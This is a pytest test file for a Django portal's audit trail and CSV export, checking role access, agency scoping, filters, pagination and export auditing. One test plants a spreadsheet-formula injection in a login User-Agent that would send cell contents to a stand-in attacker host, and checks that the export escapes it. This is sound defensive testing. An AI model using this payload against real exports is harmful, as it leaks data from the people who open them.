"""The audit trail page and its CSV export (docs/architecture.md §8): who reads which agencies' events."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from agencies.models import Role
from agencies.services import user_deactivate
from agencies.views import AUDIT_EXPORT_COLUMNS
from portal import pagination
from portal.audit import audit_record
from portal.models import AuditEvent
from tests.factories import UserFactory


@pytest.fixture
def events(investigator, partner_investigator, advocate, outsider):
    """One event by a person of each of four agencies (three in the task force, one outside)."""
    for person in [investigator, partner_investigator, advocate, outsider]:
        audit_record(action="portal.test.done", actor=person)


@pytest.fixture
def lead_auditor(lead_agency, task_force):
    return UserFactory(email="auditor@ffo.example", agency=lead_agency, role=Role.AUDITOR)


def _listed_agencies(response) -> set[str]:
    return {event.agency_name for event in response.context["page"].object_list}


@pytest.mark.parametrize(
    ("who", "expected_status"),
    [
        ("auditor", 200),
        ("superuser", 200),
        ("investigator", 404),
        ("supervisor", 404),
        ("agency_admin", 404),
        ("coordinator", 404),
        ("advocate", 404),
        ("provider_staff", 404),
        ("outsider", 404),
    ],
)
@pytest.mark.parametrize("url_name", ["audit_trail", "audit_trail_export"])
def test_who_may_read_the_audit_trail(request, client_as, events, who, url_name, expected_status):
    client = client_as(request.getfixturevalue(who))
    assert client.get(reverse(url_name)).status_code == expected_status


def test_the_task_forces_auditor_reads_every_member_agencys_events_and_no_others(client_as, auditor, events):
    response = client_as(auditor).get(reverse("audit_trail"))
    agencies = _listed_agencies(response)
    assert {"FFO", "BPD", "Safe Harbor"} <= agencies
    assert "FS" not in agencies  # the outsider's agency is in no shared task force


def test_an_agencys_own_auditor_reads_only_that_agency(client_as, lead_auditor, events):
    response = client_as(lead_auditor).get(reverse("audit_trail"))
    assert _listed_agencies(response) == {"FFO"}


def test_the_superuser_reads_everything(client_as, superuser, events):
    response = client_as(superuser).get(reverse("audit_trail"))
    assert {"FFO", "BPD", "Safe Harbor", "FS"} <= _listed_agencies(response)


def test_failed_sign_ins_to_an_agencys_account_reach_its_auditors(client, client_as, lead_auditor, investigator):
    client.post(
        reverse("account_login"), {"login": investigator.email, "password": "wrong-wrong-wrong", "acknowledge": "on"}
    )
    response = client_as(lead_auditor).get(reverse("audit_trail"), {"action": "auth.login.failed"})
    [event] = response.context["page"].object_list
    assert event.actor is None
    assert event.actor_email == investigator.email


def test_filters_narrow_the_list(client_as, auditor, events, investigator):
    audit_record(
        action="auth.login.failed",
        actor_email="x@y.example",
        outcome=AuditEvent.Outcome.FAILURE,
        agency=investigator.agency,
    )
    client = client_as(auditor)
    by_action = client.get(reverse("audit_trail"), {"action": "auth.login.f"}).context["page"].object_list
    assert [event.action for event in by_action] == ["auth.login.failed"]
    by_outcome = client.get(reverse("audit_trail"), {"outcome": "failure"}).context["page"].object_list
    assert [event.outcome for event in by_outcome] == ["failure"]
    by_person = client.get(reverse("audit_trail"), {"actor": "advocate@"}).context["page"].object_list
    assert {event.actor_email for event in by_person} == {"advocate@safeharbor.example"}


def test_an_agency_outside_the_viewers_reach_cannot_be_chosen(client_as, auditor, events, outsider):
    response = client_as(auditor).get(reverse("audit_trail"), {"agency": outsider.agency.pk})
    assert response.status_code == 200
    assert not response.context["filter"].is_valid()
    assert "Select a valid choice" in response.content.decode()


def test_the_page_costs_the_same_number_of_queries_for_5_or_60_events(client_as, auditor, investigator):
    client = client_as(auditor)
    for _ in range(5):
        audit_record(action="portal.test.done", actor=investigator)
    client.get(reverse("audit_trail"))  # warm the session and permission caches
    with CaptureQueriesContext(connection) as few:
        client.get(reverse("audit_trail"))
    for _ in range(55):
        audit_record(action="portal.test.done", actor=investigator)
    with CaptureQueriesContext(connection) as many:
        response = client.get(reverse("audit_trail"))
    assert len(many) == len(few) + 1  # the full page is counted; a short page is its own count (portal/pagination.py)
    assert len(response.context["page"].object_list) == 50


def test_past_the_cap_the_count_says_more_than(client_as, auditor, investigator, monkeypatch):
    monkeypatch.setattr(pagination.CappedPaginator, "__init__", _small_cap(pagination.CappedPaginator.__init__))
    for _ in range(4):
        audit_record(action="portal.test.done", actor=investigator)
    page = client_as(auditor).get(reverse("audit_trail")).content.decode()
    assert "More than 3 events match" in page


def _small_cap(original):
    def init(self, object_list, per_page, *, cap=1000, **kwargs):
        original(self, object_list, per_page, cap=3, **kwargs)

    return init


def test_the_export_is_a_csv_of_the_filtered_events_and_is_itself_audited(client_as, auditor, events):
    response = client_as(auditor).get(reverse("audit_trail_export"), {"actor": "investigator@"})
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["occurred_at", "action", "outcome"]
    assert [row[3] for row in rows[1:]] == ["investigator@ffo.example"]
    export = AuditEvent.objects.get(action="portal.audit.exported")
    assert export.actor == auditor
    assert export.details["rows"] == 1
    assert export.details["filters"] == {"actor": "(given)"}  # no address inside an audit event


def test_the_export_cannot_carry_a_spreadsheet_formula(client, client_as, lead_auditor, investigator):
    client.post(
        reverse("account_login"),
        {"login": investigator.email, "password": "wrong-wrong-wrong", "acknowledge": "on"},
        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A2,"click")',
    )
    response = client_as(lead_auditor).get(reverse("audit_trail_export"), {"action": "auth.login.failed"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    user_agent = rows[1][AUDIT_EXPORT_COLUMNS.index("user_agent")]
    assert user_agent == "'" + '=HYPERLINK("http://evil.example/?"&A2,"click")'


def test_a_superusers_action_on_an_agencys_person_reaches_that_agencys_auditor(
    client_as, superuser, lead_auditor, colleague
):
    user_deactivate(user=colleague, actor=superuser)
    events = client_as(lead_auditor).get(reverse("audit_trail")).context["page"].object_list
    assert "agencies.user.deactivated" in [event.action for event in events]
